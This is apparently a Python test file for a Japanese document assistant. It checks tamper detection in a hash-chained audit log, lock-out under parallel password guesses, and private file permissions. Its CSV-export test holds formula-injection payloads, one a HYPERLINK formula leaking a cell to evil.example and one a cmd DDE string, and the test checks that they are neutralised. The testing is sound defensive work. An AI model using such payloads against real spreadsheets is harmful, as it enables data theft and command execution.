"""Tamper evidence of the audit log (hash chain, `dxa audit verify`), lock-out under parallel guesses,
CSV cells Excel cannot run, JST times, and the modes of the files the app writes."""

from __future__ import annotations

import csv
import io
import os
import re
import sqlite3
import stat
import threading
from collections.abc import Iterator
from pathlib import Path

import pytest

import assistant.users as users_module
from assistant import audit_chain
from assistant.audit import AuditLog
from assistant.audit_export import jst_day_start, safe_cell, to_jst
from assistant.errors import AuthError
from assistant.types import Answer
from assistant.users import UserStore
from tests.conftest import make_settings
from ui.cli import main

JST_TIME = re.compile(r"^\d{4}-\d\d-\d\d \d\d:\d\d:\d\d\+09:00$")


def answer(question: str = "計画期間は？", text: str = "令和9年度から[1]。") -> Answer:
    return Answer(question, text, "extractive", False, [], timings_ms={"total_ms": 1.0})


def filled_log(path: Path) -> AuditLog:
    log = AuditLog(path)
    run_id = log.record("tanaka", answer(), settings_fingerprint="abc")
    log.add_feedback(run_id, "tanaka", "down", "根拠が違う")
    log.record_event("admin1", "doc_upload", "plan: added")
    log.record("suzuki", answer("二問目"))
    return log


def raw(path: Path) -> sqlite3.Connection:
    return sqlite3.connect(path, isolation_level=None)


def problems(log: AuditLog) -> list[str]:
    return [p.line("en") for p in log.verify().problems]


# -- item 4: lock-out under parallel guesses --------------------------------------------------------
def test_sixty_parallel_guesses_get_at_most_the_limit_through(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    store = UserStore(tmp_path / "users.sqlite", iterations=20_000, max_failures=5)
    store.add("tanaka", "right-password")
    checked: list[str] = []
    real_check = users_module.check_password

    def counting_check(password: str, stored: str) -> bool:
        checked.append(password)
        return real_check(password, stored)

    monkeypatch.setattr(users_module, "check_password", counting_check)
    start = threading.Barrier(60)
    outcomes: list[str] = []

    def guess(i: int) -> None:
        start.wait()
        try:
            store.verify("tanaka", f"guess-{i:04d}")
            outcomes.append("accepted")
        except AuthError as exc:
            outcomes.append("locked" if "locked" in str(exc) else "wrong")

    threads = [threading.Thread(target=guess, args=(i,)) for i in range(60)]
    for t in threads:
        t.start()
    for t in threads:
        t.join()
    assert len(checked) == 5  # only the reserved attempts were evaluated
    assert sorted(outcomes) == ["locked"] * 56 + ["wrong"] * 4  # the 5th wrong one locks the name
    with pytest.raises(AuthError, match="locked until") as info:
        store.verify("tanaka", "right-password")  # refused after the lock, unchecked
    assert len(checked) == 5
    assert "管理者にユーザー管理画面でのロック解除を依頼してください" in info.value.user_message("ja")
    assert "dxa user unlock" not in info.value.user_message("ja")
    assert store.unlock("tanaka") and store.verify("tanaka", "right-password").name == "tanaka"


def test_role_change_keeps_one_admin(tmp_path: Path) -> None:
    store = UserStore(tmp_path / "users.sqlite", iterations=1000)
    store.add("admin1", "pass-word-1", "admin")
    store.add("staff1", "pass-word-2")
    with pytest.raises(AuthError, match="last admin"):
        store.set_role("admin1", "staff")
    with pytest.raises(AuthError):
        store.set_role("staff1", "root")
    assert store.set_role("STAFF1", "admin").role == "admin"
    assert store.set_role("admin1", "staff").role == "staff"  # another admin exists now
    assert {u.name: u.role for u in store.list()} == {"admin1": "staff", "staff1": "admin"}


# -- item 6: the hash chain --------------------------------------------------------------------------
def test_an_untouched_log_verifies(tmp_path: Path) -> None:
    log = filled_log(tmp_path / "audit.sqlite")
    report = log.verify()
    assert report.ok, problems(log)
    assert report.entries == 4 and report.head != audit_chain.GENESIS


def test_an_edit_with_the_trigger_dropped_breaks_the_chain_at_that_row(tmp_path: Path) -> None:
    path = tmp_path / "audit.sqlite"
    log = filled_log(path)
    db = raw(path)
    db.execute("DROP TRIGGER runs_no_update")
    db.execute("UPDATE runs SET answer = '改ざんした回答' WHERE id = 1")
    found = problems(log)
    assert "chain #1 (runs id 1): the row was changed (hash mismatch)" in found
    assert "trigger runs_no_update: trigger is missing" in found
    # opening the log again puts the trigger back, and says so in the log itself
    log = AuditLog(path)
    found = problems(log)
    assert "trigger runs_no_update: trigger is missing" not in found
    assert "chain #1 (runs id 1): the row was changed (hash mismatch)" in found
    assert any("repaired at" in p and "runs_no_update" in p for p in found)
    with pytest.raises(sqlite3.DatabaseError, match="append-only"):
        raw(path).execute("UPDATE runs SET answer = 'x'")


def test_a_back_dated_insert_is_caught_even_with_a_forged_chain_entry(tmp_path: Path) -> None:
    path = tmp_path / "audit.sqlite"
    log = filled_log(path)
    db = raw(path)
    db.execute("INSERT INTO events (ts, user, kind, detail) VALUES ('2020-04-01T00:00:00.000+00:00', 'x', 'login', '')")
    assert any(p.startswith("events id 2: row not in the chain") for p in problems(log))
    # someone who knows the scheme also appends a correct-looking chain entry: the time gives it away
    seq, prev = db.execute("SELECT seq, hash FROM chain ORDER BY seq DESC LIMIT 1").fetchone()
    values = db.execute("SELECT * FROM events WHERE id = 2").fetchone()
    db.execute(
        "INSERT INTO chain VALUES (?, 'events', 2, ?, ?)",
        (seq + 1, prev, audit_chain.row_hash(prev, seq + 1, "events", 2, values)),
    )
    found = problems(log)
    assert found == [
        f"chain #{seq + 1}: time 2020-04-01T00:00:00.000+00:00 is earlier than an earlier entry's (back-dated)"
    ]


def test_dropped_tables_and_removed_entries_show(tmp_path: Path) -> None:
    path = tmp_path / "audit.sqlite"
    log = filled_log(path)
    raw(path).execute("DROP TABLE feedback")
    assert "table feedback: table is missing" in problems(log)
    log = AuditLog(path)  # the app recreates the table to keep working; the chain still misses its row
    found = problems(log)
    assert "chain #2 (feedback id 1): the row is gone (deleted, or its table dropped)" in found
    assert any("repaired at" in p and "feedback" in p for p in found)
    assert log.add_feedback(1, "tanaka", "up") == 2  # ids continue after the chain's, the new row chains
    assert problems(log) == found

    path2 = tmp_path / "audit2.sqlite"
    log2 = filled_log(path2)
    db = raw(path2)
    db.execute("DROP TRIGGER chain_no_delete")
    db.execute("DELETE FROM chain WHERE seq = 2")
    found = problems(log2)
    assert "chain #3 (events id 1): entries #2-#2 missing" in found
    assert "feedback id 1: row not in the chain" in " ".join(found)


def test_a_log_from_before_the_chain_is_chained_once_on_first_open(tmp_path: Path) -> None:
    from assistant.audit import _TABLES

    path = tmp_path / "audit.sqlite"
    db = raw(path)
    db.executescript(_TABLES)
    db.execute("INSERT INTO events (ts, user, kind, detail) VALUES ('2026-01-05T00:00:00+00:00', 'a', 'login', '')")
    db.execute("INSERT INTO events (ts, user, kind, detail) VALUES ('2026-01-04T00:00:00+00:00', 'b', 'login', '')")
    db.close()
    assert not audit_chain.verify(path).ok  # not chained yet
    log = AuditLog(path)
    assert log.verify().ok, problems(log)
    assert [(e.kind, e.detail) for e in log.events()][0] == ("audit_chained", "既存の 2 件を連結しました")
    # dropping the chain later does not start a fresh, clean one
    raw(path).execute("DROP TABLE chain")
    log = AuditLog(path)
    found = problems(log)
    assert any(p.startswith("events id 1: row not in the chain") for p in found)
    assert [e.kind for e in log.events()][:2] == ["audit_repair", "audit_chained"]  # no second "chained"


def test_concurrent_writers_keep_one_unbroken_chain(tmp_path: Path) -> None:
    path = tmp_path / "audit.sqlite"
    log = AuditLog(path)

    def write(i: int) -> None:
        other = AuditLog(path)
        for j in range(10):
            other.record_event(f"user{i}", "login", str(j))

    threads = [threading.Thread(target=write, args=(i,)) for i in range(6)]
    for t in threads:
        t.start()
    for t in threads:
        t.join()
    report = log.verify()
    assert report.ok and report.entries == 60, problems(log)


@pytest.fixture
def cli_home(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Iterator[Path]:
    home = tmp_path / "home"
    monkeypatch.setenv("DXA_HOME", str(home))
    old = os.umask(0o022)  # what a login shell usually has
    try:
        yield home
    finally:
        os.umask(old)


def test_dxa_audit_verify(cli_home: Path, capsys: pytest.CaptureFixture[str]) -> None:
    path = cli_home / "audit.sqlite"
    filled_log(path)
    assert main(["audit", "verify"]) == 0
    assert "改ざんされていません" in capsys.readouterr().out

    db = raw(path)
    db.execute("DROP TRIGGER events_no_update")
    db.execute("INSERT INTO events (ts, user, kind, detail) VALUES ('2020-04-01T00:00:00.000+00:00', 'x', 'login', '')")
    assert main(["audit", "verify"]) == 1
    out = capsys.readouterr().out
    assert "改ざんを検出しました" in out
    assert "events id 2: 連鎖にない記録です" in out and "trigger events_no_update" in out

    db.execute("DROP TABLE runs")
    assert main(["audit", "verify"]) == 1
    out = capsys.readouterr().out
    assert "table runs: テーブルがありません" in out
    assert audit_chain.verify(path).problems  # verify changed nothing: still broken
    assert "runs" not in audit_chain.existing_objects(raw(path))


# -- item 8: CSV cells Excel would run -----------------------------------------------------------
def test_csv_cells_that_excel_would_run_are_neutralised(tmp_path: Path) -> None:
    log = AuditLog(tmp_path / "audit.sqlite")
    hostile = '=HYPERLINK("https://evil.example/?q="&A1,"詳細")'
    run_id = log.record("@admin", answer(hostile, "+1 回答"))
    log.add_feedback(run_id, "staff", "down", "-2 根拠なし")
    log.record_event("\tstaff", "export", "\r=cmd|' /C calc'!A0")
    rows = list(csv.DictReader(io.StringIO(log.to_csv(log.query()).lstrip("\ufeff"))))
    assert rows[0]["question"] == "'" + hostile
    assert rows[0]["answer"] == "'+1 回答" and rows[0]["user"] == "'@admin"
    assert rows[0]["feedback_comment"] == "'-2 根拠なし"
    assert JST_TIME.match(rows[0]["ts"]), rows[0]["ts"]
    events = list(csv.DictReader(io.StringIO(log.events_csv(log.events()).lstrip("\ufeff"), newline="")))
    assert events[0]["user"] == "'\tstaff" and events[0]["detail"].startswith("'\r=cmd")
    assert events[0]["label"] == "書き出し" and JST_TIME.match(events[0]["ts"])
    assert [safe_cell(v) for v in ("計画", "3", 3, "", "a=b")] == ["計画", "3", 3, "", "a=b"]


def test_times_are_jst_with_the_offset() -> None:
    from datetime import date

    assert to_jst("2026-12-01T00:00:00.000+00:00") == "2026-12-01 09:00:00+09:00"
    assert to_jst("2026-11-30T15:00:00+00:00") == "2026-12-01 00:00:00+09:00"
    assert to_jst("not a time") == "not a time"
    assert jst_day_start(date(2026, 12, 1)) == "2026-11-30T15:00:00.000+00:00"


# -- item 6: file modes ---------------------------------------------------------------------------
def mode(path: Path) -> int:
    return stat.S_IMODE(path.stat().st_mode)


def test_stores_are_private_even_when_they_existed_before(tmp_path: Path) -> None:
    old = os.umask(0o022)
    try:
        home = tmp_path / "home" / "nested"
        UserStore(home / "users.sqlite", iterations=1000)
        assert mode(home / "users.sqlite") == 0o600 and mode(home) == 0o700
        loose = tmp_path / "old" / "audit.sqlite"
        loose.parent.mkdir()
        sqlite3.connect(loose).close()
        os.chmod(loose, 0o644)
        log = AuditLog(loose)
        reader = sqlite3.connect(loose)  # keeps the -wal and -shm files while it is open
        reader.execute("SELECT COUNT(*) FROM events").fetchone()
        log.record_event("a", "login")
        assert mode(loose) == 0o600
        assert mode(loose.with_name("audit.sqlite-wal")) == 0o600
        assert mode(loose.with_name("audit.sqlite-shm")) == 0o600
        reader.close()
    finally:
        os.umask(old)


def test_everything_the_cli_writes_under_home_is_private(
    cli_home: Path, embed_cache: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    make_settings(cli_home, embed_cache)
    note = tmp_path / "memo.md"
    note.write_text("# 会議メモ\n\n電子申請の拡大を決定した。\n", encoding="utf-8")
    monkeypatch.setattr("sys.stdin", io.StringIO("pass-word-1\n"))
    assert main(["user", "add", "tanaka", "--role", "admin"]) == 0
    assert main(["ingest", str(note), "--no-progress"]) == 0
    written = [p for p in cli_home.rglob("*") if (cli_home / "cache") not in (p, *p.parents)]
    assert cli_home / "users.sqlite" in written and cli_home / "audit.sqlite" in written
    assert any((cli_home / "index") in p.parents for p in written)
    assert {str(p): oct(mode(p)) for p in written if mode(p) != (0o700 if p.is_dir() else 0o600)} == {}
    events = AuditLog(cli_home / "audit.sqlite").events()
    assert [e.kind for e in events] == ["doc_upload", "user_add"]
    assert all(e.user.startswith("cli:") and len(e.user) > 4 for e in events)


def test_dxa_user_role_is_recorded_with_the_os_user(cli_home: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    import getpass

    monkeypatch.setattr("sys.stdin", io.StringIO("pass-word-1\n"))
    assert main(["user", "add", "tanaka", "--role", "admin"]) == 0
    monkeypatch.setattr("sys.stdin", io.StringIO("pass-word-2\n"))
    assert main(["user", "add", "suzuki"]) == 0
    assert main(["user", "role", "suzuki", "admin"]) == 0
    assert main(["user", "role", "tanaka", "staff"]) == 0
    assert main(["user", "role", "suzuki", "staff"]) == 1  # the last admin stays
    events = AuditLog(cli_home / "audit.sqlite").events(kinds=["user_role"])
    assert [(e.user, e.detail) for e in events] == [
        (f"cli:{getpass.getuser()}", "tanaka → 職員"),
        (f"cli:{getpass.getuser()}", "suzuki → 管理者"),
    ]


def test_a_table_dropped_while_the_app_runs_is_recreated_on_the_next_write(tmp_path: Path) -> None:
    path = tmp_path / "audit.sqlite"
    log = filled_log(path)  # the app's long-lived object
    raw(path).execute("DROP TABLE events")
    log.record_event("tanaka", "login")  # a login still works
    kinds = [e.kind for e in reversed(log.events())]
    assert kinds == ["audit_repair", "login"]
    assert log.events()[1].detail == "events、events_no_update、events_no_delete が失われていたため作り直しました"
    found = problems(log)
    assert "chain #3 (events id 1): the row is gone (deleted, or its table dropped)" in found
    assert any("repaired at" in p and "events" in p for p in found)


def test_cli_exports_drafts_and_eval_runs_are_recorded(
    corpus_pipeline,  # type: ignore[no-untyped-def]
    tmp_path: Path,
    embed_cache: Path,
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    import getpass

    home = tmp_path / "home"
    make_settings(home, embed_cache)
    monkeypatch.setenv("DXA_HOME", str(home))
    monkeypatch.setenv("DXA_STORE__PATH", str(corpus_pipeline.settings.index_dir))
    xlsx, md, docx = tmp_path / "整合表.xlsx", tmp_path / "原稿.md", tmp_path / "原稿.docx"
    assert main(["align", "--xlsx", str(xlsx)]) == 0
    assert main(["draft", "行政事務のＤＸ", "--md", str(md), "--docx", str(docx)]) == 0
    suite = tmp_path / "one.yaml"
    suite.write_text(
        "name: one\ndescription: 一問\ncases:\n  - id: weather\n    question: 明日の天気は\n    kind: unanswerable\n",
        encoding="utf-8",
    )
    main(["eval", "run", str(suite), "--out", str(tmp_path / "run")])
    events = list(reversed(AuditLog(home / "audit.sqlite").events()))
    assert {e.user for e in events} == {f"cli:{getpass.getuser()}"}
    assert [(e.kind, e.detail) for e in events] == [
        ("export", f"整合表 xlsx: {xlsx.resolve()}"),
        ("draft", events[1].detail),
        ("export", f"原稿「行政事務のＤＸ」 docx: {docx.resolve()}"),
        ("export", f"原稿「行政事務のＤＸ」 md: {md.resolve()}"),
        ("eval_run", events[4].detail),
    ]
    assert events[1].detail.startswith("行政事務のＤＸ（") and events[4].detail.startswith("one: ")


def test_dxa_user_passwd_ends_the_users_sessions(cli_home: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """`dxa user passwd` on a home whose sessions table predates the password trigger still ends the user's
    sessions (the command brings the schema up to date first); the change is in the audit log."""
    from assistant.config import Settings
    from assistant.sessions import SessionStore

    monkeypatch.setattr("sys.stdin", io.StringIO("pass-word-1\n"))
    assert main(["user", "add", "tanaka", "--role", "admin"]) == 0
    sessions = SessionStore.from_settings(Settings())
    with sqlite3.connect(cli_home / "users.sqlite") as db:  # as an older version left it
        db.execute("DROP TRIGGER sessions_end_with_password")
    sid, _ = sessions.start("tanaka")
    monkeypatch.setattr("sys.stdin", io.StringIO("pass-word-2\n"))
    assert main(["user", "passwd", "tanaka"]) == 0
    assert not sessions.is_active(sid)
    assert UserStore(cli_home / "users.sqlite").verify("tanaka", "pass-word-2").name == "tanaka"
    assert [e.kind for e in AuditLog(cli_home / "audit.sqlite").events(kinds=["user_passwd"])] == ["user_passwd"]
